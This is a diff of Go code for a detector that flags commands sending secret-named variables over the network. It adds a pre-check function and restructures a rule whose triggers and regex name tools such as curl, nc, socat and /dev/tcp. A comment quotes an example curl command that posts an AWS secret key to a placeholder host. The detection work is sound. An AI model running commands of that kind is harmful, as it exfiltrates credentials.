@@ -12,17 +12,38 @@ import (
 // with a secret, not at whether a secret is named: "curl -H 'Authorization:
 // Bearer $GITHUB_TOKEN' https://api.github.com" authenticates, "curl -d
 // "$AWS_SECRET_ACCESS_KEY" https://x" sends the key away.
+// commandThenBlank is secret_variable's pre: its expression is a command's
+// name (letters and -) then a blank, or /dev/tcp/ or /dev/udp/. The run of
+// letters and - at i must end at a blank: "http" in a URL, "dig" in
+// "digest", turn away without running the expression.
+func commandThenBlank(text string, i int) bool {
+	if text[i] == '/' {
+		return true
+	}
+	limit := min(len(text), i+preLimit)
+	for i < limit && ('a' <= text[i] && text[i] <= 'z' || 'A' <= text[i] && text[i] <= 'Z' || text[i] == '-') {
+		i++
+	}
+	if i == limit {
+		return limit < len(text) // too long to read here: the expression decides
+	}
+	return strings.IndexByte(" \t\n\f\r", text[i]) >= 0
+}
+
 func exfiltrationRules() []*rule {
 	return []*rule{
 		{
 			id:       "exfiltration.secret_variable",
 			category: CategoryExfiltration,
 			desc:     "a network command (curl, wget, nc, nslookup, Invoke-WebRequest…) sends a secret-named variable ($…KEY, $…TOKEN, $…SECRET, $…PASSWORD) or a command that prints one ($(gh auth token)), other than as an Authorization header or login option",
-			triggers: []string{"curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "nslookup", "dig", "http", "xh", "invoke-webrequest", "invoke-restmethod", "iwr", "irm", "/dev/tcp/", "/dev/udp/"},
 			on:       folded,
 			before:   notWord,
-			pattern:  `(?:curl|wget|nc|ncat|netcat|socat|telnet|nslookup|dig|https?|xh|invoke-webrequest|invoke-restmethod|iwr|irm)\s|/dev/(?:tcp|udp)/`,
-			vet:      checkSecretVariable,
+			forms: []form{{
+				triggers: []string{"curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "nslookup", "dig", "http", "xh", "invoke-webrequest", "invoke-restmethod", "iwr", "irm", "/dev/tcp/", "/dev/udp/"},
+				pattern:  `(?:curl|wget|nc|ncat|netcat|socat|telnet|nslookup|dig|https?|xh|invoke-webrequest|invoke-restmethod|iwr|irm)\s|/dev/(?:tcp|udp)/`,
+				pre:      commandThenBlank,
+			}},
+			vet: checkSecretVariable,
 		},
 		{
 			id:       "exfiltration.env_dump",
